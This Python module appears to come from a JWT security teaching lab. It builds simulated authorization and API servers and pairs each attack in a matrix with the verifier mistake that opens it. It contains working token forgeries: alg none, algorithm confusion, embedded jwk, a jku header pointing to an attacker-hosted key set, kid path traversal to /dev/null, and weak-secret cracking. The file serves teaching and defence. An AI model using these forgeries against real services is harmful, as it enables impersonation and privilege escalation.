"""The forgeries of the attack matrix (issue 11 §4), as building blocks the tests and the
stories share, and each attack as a walkable :class:`~tokenlab.scenarios.attack.AttackScenario`.

The server side is built by :func:`build`: an authorization server (EdDSA, RS256 or HS256; the
HS256 one with a weak secret when asked), the API with the switches under test, the simulated
internet, and the users and apps that give the attacker a token. The attacker's side gets only a
:class:`Holdings`: a token they hold, the issuer's public JWKS (fetched over the wire like anybody
can), the simulated internet to host files on, the time, and their own random source (for their
own keys). No holding carries a private key or secret of a server: every forgery here is made
from these alone — with PyJWT, or where PyJWT refuses to build the token (an empty, PEM-shaped or
short HMAC key; ``alg: nOnE``) with the fence's own PyJWS (:func:`tokenlab.attacks.encode`).

:data:`ATTACKS` is the matrix's table: for each attack, what the hardened default refuses it
with, the mistake(s) that open it and what else opens it. :func:`forgery` tells one attack as a
story: what the attacker holds, the forgery, and the API's answer — hardened, or with the mistake.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, field
from typing import Any

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519
from jwt.algorithms import OKPAlgorithm
from jwt.utils import base64url_encode

from ..api.server import ResourceServer
from ..attacks import WORDS, SimulatedInternet, crack_hs256, encode
from ..authserver.clients import RegisteredClient
from ..authserver.pkce import make_verifier, s256_challenge
from ..authserver.server import AuthServer
from ..client.app import Client
from ..clock import SimClock
from ..errors import (
    AlgorithmNotAllowedError,
    InvalidAudienceError,
    InvalidHeaderError,
    InvalidSignatureError,
    MissingClaimError,
    TokenError,
    UnknownKeyError,
)
from ..jose.policy import INSECURE_SWITCHES, VerifierPolicy
from ..jose.tokens import shorten
from ..jose.verify import VerifiedClaims
from ..net.messages import Request
from ..randomness import RandomSource
from .attack import AttackScenario, attacker_of, use_step
from .steps import Check, Step
from .world import World

__all__ = [
    "API", "ATTACKER_JWKS", "ATTACKS", "CALLBACK", "EVERY_FORGERY", "FORGERIES", "HELD_SCOPE",
    "HMAC_SECRET", "HOLDINGS", "HOLDING_WORDS", "ISSUER", "PASSWORDS", "PHOTOS", "SERVICE_SCOPE", "SKIP",
    "SWITCHES", "WEAK_SECRET", "WIDER_SCOPE", "Attack", "Holdings", "b64json", "build",
    "check_switches", "escalated", "forgery", "held_claims", "held_kid", "opens", "own_key",
    "present_as_held", "whoami",
]

ISSUER = "https://auth.example"
#: The API under attack.
API = "https://api.example"
#: Another API of the same issuer: its tokens say ``aud`` photos, not the weather API.
PHOTOS = "https://photos.example"
#: Where the attacker hosts their own key set on the simulated internet.
ATTACKER_JWKS = "https://attacker.example/.well-known/jwks.json"
CALLBACK = "https://weather-app.example/cb"
PASSWORDS = {"alice": "alice's long passphrase", "mallory": "mallory's long passphrase"}
#: The attacker's own token grants only this; forgeries ask for more.
HELD_SCOPE = "weather:read"
WIDER_SCOPE = "weather:read weather:write"
#: What the operator's leaked service token grants (it has no ``exp``).
SERVICE_SCOPE = "weather:read weather:write"
#: The tokens an attacker may hold, by name (see :func:`build`).
HOLDINGS = ("own access token", "alice's ID token", "alice's token for photos",
            "leaked service token")
#: The server setting of issue 11 §3, beside the verifier's switches.
#: Each holding in words, for the stories' sentences.
HOLDING_WORDS = {"own access token": "their own access token", "alice's ID token": "Alice's ID token",
                 "alice's token for photos": "Alice's token for the photos API",
                 "leaked service token": "a leaked service token"}
HMAC_SECRET = "insecure_hmac_secret"  # noqa: S105 - the name of a setting
SWITCHES = (*INSECURE_SWITCHES, HMAC_SECRET)
#: The weak secret of the HS256 server in the weak-secret world: a word of the course's list.
WEAK_SECRET = "weather-app"  # noqa: S105 - the published weak secret of a lesson


@dataclass(frozen=True, slots=True)
class Holdings:
    """What the attacker really has: never a server's private key or secret. ``random`` is the
    attacker's own (for their own keys), seeded so that a story is reproducible."""

    token: str
    jwks: Mapping[str, Any]
    internet: SimulatedInternet
    now: int
    random: RandomSource = field(default_factory=lambda: RandomSource(seed="attacker"))


def whoami(request: Request, claims: VerifiedClaims) -> dict[str, Any]:
    """A route that serves any valid token and says whom it speaks for (reads only ``sub`` and
    ``scope``, so it also answers for tokens that are not RFC 9068 access tokens)."""
    return {"sub": claims.get("sub"), "scope": claims.get("scope", "")}


def _servers(algorithm: str, switches: frozenset[str], weak_secret: str | None,
             seed: int) -> tuple[AuthServer, ResourceServer, SimulatedInternet]:
    clock = SimClock()
    auth = AuthServer(issuer=ISSUER, clock=clock, seed=seed, algorithm=algorithm,
                      **({"insecure_hmac_secret": weak_secret} if weak_secret else {}))
    internet = SimulatedInternet(auth.wire)
    policy = VerifierPolicy(issuer=ISSUER, audience=API, **dict.fromkeys(switches, True))
    api = ResourceServer(API, auth, policy=policy, internet=internet)
    api.route("GET", "/whoami", None, whoami)
    auth.register_resource(PHOTOS)
    return auth, api, internet


def build(algorithm: str, holding: str, *, switches: frozenset[str] = frozenset(),
          weak_secret: str | None = None, seed: int = 11) -> tuple[ResourceServer, Holdings]:
    """A fresh world: the API (with ``switches`` on) and what the attacker holds."""
    api, held, _app = _build(algorithm, holding, switches, weak_secret, seed)
    return api, held


def _build(algorithm: str, holding: str, switches: frozenset[str], weak_secret: str | None,
           seed: int) -> tuple[ResourceServer, Holdings, RegisteredClient]:
    if holding not in HOLDINGS:
        raise ValueError(f"holding must be one of {', '.join(HOLDINGS)}, not {holding!r}")
    auth, api, internet = _servers(algorithm, switches, weak_secret, seed)
    clock = auth.clock
    assert isinstance(clock, SimClock)
    app = auth.register_client("weather-app", ["openid", "weather:read", "weather:write"],
                               redirect_uris=[CALLBACK])
    for user, password in PASSWORDS.items():
        auth.register_user(user, password)

    if holding == "own access token":
        # Mallory uses the weather app; her token (from her browser's storage) reads only.
        token = auth.password_grant(app.client_id, app.client_secret, "mallory",
                                    PASSWORDS["mallory"], scope=HELD_SCOPE,
                                    resource=API).access_token
    elif holding == "alice's ID token":
        # The app (a malicious or compromised one) receives Alice's ID token when she logs in.
        verifier = make_verifier()
        redirect = auth.authorize(app.client_id, CALLBACK, username="alice",
                                  password=PASSWORDS["alice"], scope="openid weather:read",
                                  nonce="n-0S6_WzA2Mj", resource=API,
                                  code_challenge=s256_challenge(verifier),
                                  code_challenge_method="S256")
        assert redirect.code is not None
        response = auth.exchange_code(redirect.code, app.client_id, app.client_secret,
                                      redirect_uri=CALLBACK, code_verifier=verifier)
        assert response.id_token is not None
        token = response.id_token
    elif holding == "alice's token for photos":
        # The photos API (malicious or breached) receives Alice's token, meant for it alone.
        token = auth.password_grant(app.client_id, app.client_secret, "alice",
                                    PASSWORDS["alice"], scope=HELD_SCOPE,
                                    resource=PHOTOS).access_token
    else:
        # The operator mints a service token for a nightly job with the server's own key and
        # no exp (the issuing side's mistake); it leaks, in a CI log. Then a year passes.
        now = int(clock.time())
        token = auth.keys.sign({"iss": ISSUER, "sub": "nightly-sync", "aud": API, "iat": now,
                                "jti": "svc-1", "client_id": "nightly-sync",
                                "scope": SERVICE_SCOPE}, typ="at+jwt")
        clock.advance(365 * 24 * 3600)

    jwks = auth.handle(Request.get(f"{ISSUER}/jwks.json"), sender="attacker").json()
    return api, Holdings(token=token, jwks=jwks, internet=internet, now=int(clock.time()),
                         random=RandomSource(f"{seed!r}\x00attacker")), app


# -- the attacker's tools: what they hold, PyJWT, cryptography -----------------------------------


def held_claims(h: Holdings) -> dict[str, Any]:
    """The claims of the token the attacker holds: anyone can read them, no key needed."""
    return dict(jwt.decode(h.token, options={"verify_signature": False}))


def held_kid(h: Holdings) -> str:
    return str(jwt.get_unverified_header(h.token)["kid"])


def escalated(h: Holdings) -> dict[str, Any]:
    """The held claims, made someone else's (Alice's) with a wider scope."""
    return {**held_claims(h), "sub": "alice", "scope": WIDER_SCOPE, "jti": "forged-1"}


def b64json(value: Mapping[str, Any]) -> str:
    return base64url_encode(json.dumps(value, separators=(",", ":")).encode()).decode()


def own_key(h: Holdings) -> tuple[ed25519.Ed25519PrivateKey, dict[str, Any]]:
    """A key pair the attacker makes for themselves (Ed25519, from their own random source:
    EdDSA signatures are deterministic, so a story is reproducible), and its public JWK."""
    private = ed25519.Ed25519PrivateKey.from_private_bytes(h.random.bytes("own key", 32))
    jwk = OKPAlgorithm.to_jwk(private.public_key(), as_dict=True)
    return private, {**jwk, "kid": "mallory-1", "alg": "EdDSA", "use": "sig"}


def forge_alg_none(h: Holdings) -> str:
    return jwt.encode(escalated(h), None, algorithm="none",
                      headers={"kid": held_kid(h), "typ": "at+jwt"})


def forge_alg_none_any_case(h: Holdings) -> str:
    # PyJWT knows no algorithm 'nOnE'; the fence's PyJWS signs it (with nothing).
    return encode(escalated(h), None, "nOnE", headers={"kid": held_kid(h), "typ": "at+jwt"})


def forge_signature_stripped(h: Holdings) -> str:
    header = h.token.split(".")[0]
    return f"{header}.{b64json(escalated(h))}."


def forge_signature_garbage(h: Holdings) -> str:
    header = h.token.split(".")[0]
    garbage = base64url_encode(h.random.bytes("garbage signature", 64)).decode()
    return f"{header}.{b64json(escalated(h))}.{garbage}"


def forge_alg_confusion(h: Holdings) -> str:
    """The RS256 public key from the JWKS, as PEM (SubjectPublicKeyInfo, as cryptography writes
    it), becomes the HS256 secret. PyJWT refuses a PEM-shaped HMAC key; the fence's PyJWS not."""
    kid = held_kid(h)
    jwk = next(k for k in h.jwks["keys"] if k["kid"] == kid)
    public = jwt.PyJWK(jwk).key
    pem = public.public_bytes(serialization.Encoding.PEM,
                              serialization.PublicFormat.SubjectPublicKeyInfo)
    return encode(escalated(h), pem, "HS256", headers={"kid": kid, "typ": "at+jwt"})


def forge_embedded_jwk(h: Holdings) -> str:
    private, jwk = own_key(h)
    return jwt.encode(escalated(h), private, algorithm="EdDSA",
                      headers={"kid": jwk["kid"], "typ": "at+jwt", "jwk": jwk})


def forge_jku(h: Holdings) -> str:
    private, jwk = own_key(h)
    h.internet.host(ATTACKER_JWKS, {"keys": [jwk]})
    return jwt.encode(escalated(h), private, algorithm="EdDSA",
                      headers={"kid": jwk["kid"], "typ": "at+jwt", "jku": ATTACKER_JWKS})


def forge_kid_traversal(h: Holdings) -> str:
    # /dev/null reads as nothing: the HMAC key is empty (PyJWT refuses an empty key).
    return encode(escalated(h), b"", "HS256",
                  headers={"kid": "../../../../../../dev/null", "typ": "at+jwt"})


def forge_with_cracked_secret(h: Holdings) -> str:
    """Offline: try every word of the course's list on the held token; sign with the one that
    fits — or, when none does, with the attacker's best guess."""
    found = crack_hs256(h.token, WORDS)
    secret = found.secret if found is not None else WORDS[0]
    return encode(escalated(h), secret.encode(), "HS256",
                  headers={"kid": held_kid(h), "typ": "at+jwt"})


def present_as_held(h: Holdings) -> str:
    """No forgery: the token the attacker holds, presented where it does not belong."""
    return h.token


# -- the table -----------------------------------------------------------------------------------


@dataclass(frozen=True)
class Attack:
    name: str
    #: The authorization server's algorithm in this attack's world.
    world: str
    holding: str
    forge: Callable[[Holdings], str]
    #: What the hardened default raises, and the header parameter or claim it names.
    refused_with: type[TokenError]
    names: str
    #: The mistake(s) that open it, all needed together.
    opened_by: frozenset[str]
    #: Other mistakes that open it too, each with the reason.
    also_opened_by: Mapping[frozenset[str], str] = field(default_factory=dict)
    #: When several mistakes are needed: what each one alone still raises.
    alone: Mapping[str, type[TokenError]] = field(default_factory=dict)
    #: The request it is used for: the scope asked, and whose token it then is.
    scope: str | None = WIDER_SCOPE
    sub: str = "alice"


SKIP = frozenset({"insecure_skip_signature"})
EVERY_FORGERY = "skipping the signature opens every forgery"

ATTACKS: tuple[Attack, ...] = (
    Attack("alg none", "EdDSA", "own access token", forge_alg_none,
           AlgorithmNotAllowedError, "alg", frozenset({"insecure_accept_none"}),
           {frozenset({"insecure_alg_from_header"}):
                "the header picks the algorithm, and 'none' is in the table, as in 2015's libraries",
            SKIP: EVERY_FORGERY}),
    Attack("alg nOnE", "EdDSA", "own access token", forge_alg_none_any_case,
           AlgorithmNotAllowedError, "alg", frozenset({"insecure_accept_none"}),
           {SKIP: EVERY_FORGERY}),
    Attack("signature stripped", "EdDSA", "own access token", forge_signature_stripped,
           InvalidSignatureError, "", SKIP),
    Attack("garbage signature", "EdDSA", "own access token", forge_signature_garbage,
           InvalidSignatureError, "", SKIP),
    Attack("algorithm confusion RS256 to HS256", "RS256", "own access token",
           forge_alg_confusion, AlgorithmNotAllowedError, "alg",
           frozenset({"insecure_alg_from_header"}), {SKIP: EVERY_FORGERY}),
    Attack("embedded jwk", "EdDSA", "own access token", forge_embedded_jwk,
           InvalidHeaderError, "jwk", frozenset({"insecure_trust_jwk_header"}),
           {SKIP: EVERY_FORGERY}),
    Attack("jku to the attacker's JWKS", "EdDSA", "own access token", forge_jku,
           InvalidHeaderError, "jku", frozenset({"insecure_trust_jku_header"}),
           {SKIP: EVERY_FORGERY}),
    Attack("kid path traversal to /dev/null", "HS256", "own access token", forge_kid_traversal,
           UnknownKeyError, "kid", frozenset({"insecure_kid_as_path"}), {SKIP: EVERY_FORGERY}),
    Attack("weak HS256 secret cracked", "HS256", "own access token", forge_with_cracked_secret,
           InvalidSignatureError, "", frozenset({HMAC_SECRET}), {SKIP: EVERY_FORGERY}),
    Attack("ID token as access token", "EdDSA", "alice's ID token", present_as_held,
           InvalidHeaderError, "typ", frozenset({"insecure_skip_typ", "insecure_skip_audience"}),
           alone={"insecure_skip_typ": InvalidAudienceError,
                  "insecure_skip_audience": InvalidHeaderError},
           scope=None),
    Attack("token for another audience", "EdDSA", "alice's token for photos", present_as_held,
           InvalidAudienceError, "aud", frozenset({"insecure_skip_audience"}), scope=HELD_SCOPE),
    Attack("token without exp", "EdDSA", "leaked service token", present_as_held,
           MissingClaimError, "exp", frozenset({"insecure_exp_optional"}), scope=SERVICE_SCOPE,
           sub="nightly-sync"),
)


# -- each attack as a story --------------------------------------------------------------------------

_HOLDINGS_MEMO = "holdings"


def _world(attack: Attack, on: frozenset[str], seed: int) -> World:
    api, held, registration = _build(attack.world, attack.holding, on - {HMAC_SECRET},
                                     WEAK_SECRET if HMAC_SECRET in on else None, seed)
    auth = api.auth
    assert auth is not None
    app = Client(auth, registration, api, grant="authorization_code", redirect_uri=CALLBACK)
    clock = auth.clock
    assert isinstance(clock, SimClock)
    world = World(seed, clock, auth, api, app, username="mallory",
                  password=PASSWORDS["mallory"])
    world.memo[_HOLDINGS_MEMO] = held
    attacker_of(world)
    return world


def _holds(attack: Attack) -> Callable[[World], Step]:
    def step(world: World) -> Step:
        held: Holdings = world.memo[_HOLDINGS_MEMO]
        return Step(
            actor="attacker",
            title=f"The attacker holds {HOLDING_WORDS[attack.holding]}, and the public JWKS",
            explanation=("Nothing secret: a token anyone in the attacker's place would hold, the "
                         "issuer's public keys (fetched over the wire, as anybody can), their "
                         "own keys. Never a server's private key or secret."),
            checks=(Check("the attacker's token", True, str(shorten(held.token))),),
            message=next((e for e in world.wire.events if e.path == "/jwks.json"), None))
    return step


def _forge(attack: Attack) -> Callable[[World], Step]:
    def step(world: World) -> Step:
        held: Holdings = world.memo[_HOLDINGS_MEMO]
        forged = attack.forge(held)
        world.memo["forged"] = forged
        how = ("no forgery: the token as held, presented where it does not belong"
               if attack.forge is present_as_held else
               f"claims changed to sub {attack.sub!r}, scope {attack.scope!r}")
        return Step(actor="attacker", title=f"The attacker builds the token: {attack.name}",
                    explanation=(attack.forge.__doc__ or how).strip().splitlines()[0],
                    outcome=f"forged: {shorten(forged)} ({how})")
    return step


def _present(world: World) -> None:
    url = world.api.audience.rstrip("/") + "/whoami"
    attacker_of(world).call(world.api, url, world.memo["forged"])


def check_switches(switches: object) -> frozenset[str]:
    """``switches`` as a set of names of :data:`SWITCHES`; a clear error for anything else."""
    if isinstance(switches, str) or not isinstance(switches, Iterable):
        raise TypeError(f"switches must be a list of switch names such as "
                        f"['insecure_accept_none'], not {switches!r}")
    on = frozenset(switches)
    unknown = sorted(str(s) for s in on - set(SWITCHES))
    if unknown:
        raise ValueError(f"unknown switch {', '.join(map(repr, unknown))}; the switches are "
                         f"{', '.join(SWITCHES)}")
    return on


def forgery(name: str, *, mistakes: bool = False, switches: Iterable[str] | None = None,
            seed: int = 11) -> AttackScenario:
    """The attack ``name`` of :data:`ATTACKS` as a story, against the hardened default, (with
    ``mistakes``) the API or server with the mistake(s) that open it, or (with ``switches``)
    with exactly those switches of :data:`SWITCHES` on."""
    attack = next((a for a in ATTACKS if a.name == name), None)
    if attack is None:
        raise ValueError(f"name must be one of {', '.join(a.name for a in ATTACKS)}, not {name!r}")
    if switches is not None and mistakes:
        raise ValueError("give mistakes=True or a list of switches, not both")
    on = attack.opened_by if mistakes else check_switches(switches or ())
    defence = "with " + " + ".join(sorted(on)) if on else "hardened default"
    opened = opens(attack, on)
    present = use_step(
        "The attacker presents the token to the API: GET /whoami",
        ("The mistake lets it through: the answer on the wire is marked INSECURE." if opened
         else f"The hardened default refuses it ({attack.refused_with.__name__}"
         + (f", naming {attack.names}" if attack.names else "") + ")." if not on else
         "The switches on do not open this attack: the API refuses it."), _present)
    return AttackScenario(
        name=f"forgery: {attack.name} ({defence})",
        title=f"{attack.name} — {defence}",
        intro=f"The attack matrix's '{attack.name}', from what the attacker holds.",
        builder=lambda s: _world(attack, on, s),
        steps=(_holds(attack), _forge(attack), present), seed=seed, defence=defence)


def opens(attack: Attack, on: frozenset[str]) -> str | None:
    """Why the switches ``on`` let ``attack`` through (the matrix's account), or ``None`` when
    they do not open it."""
    if attack.opened_by <= on:
        return " + ".join(sorted(attack.opened_by))
    for switches, reason in attack.also_opened_by.items():
        if switches <= on:
            return f"{' + '.join(sorted(switches))}: {reason}"
    return None


#: Every attack of the matrix, against the hardened default and with its own mistake(s).
FORGERIES: tuple[AttackScenario, ...] = tuple(
    forgery(a.name, mistakes=m) for a in ATTACKS for m in (False, True))

